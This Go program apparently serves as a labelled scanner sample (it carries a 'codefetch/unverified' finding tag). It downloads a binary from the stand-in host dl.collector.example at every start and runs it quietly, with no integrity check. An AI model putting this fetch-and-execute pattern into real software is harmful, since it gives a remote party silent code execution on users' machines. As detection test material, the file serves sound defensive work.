// Command module-at-start fetches a program at every start and runs it.
package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
)

func main() {
	dir, _ := os.UserCacheDir()
	module := filepath.Join(dir, "listener")
	if err := fetch("https://dl.collector.example/listener", module); err == nil { // behaviour: unconditional unknown // finding: codefetch/unverified
		exec.Command(module, "--quiet").Start()
	}
}

func fetch(url, file string) error {
	resp, err := http.Get(url)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return err
	}
	return os.WriteFile(file, body, 0o755)
}
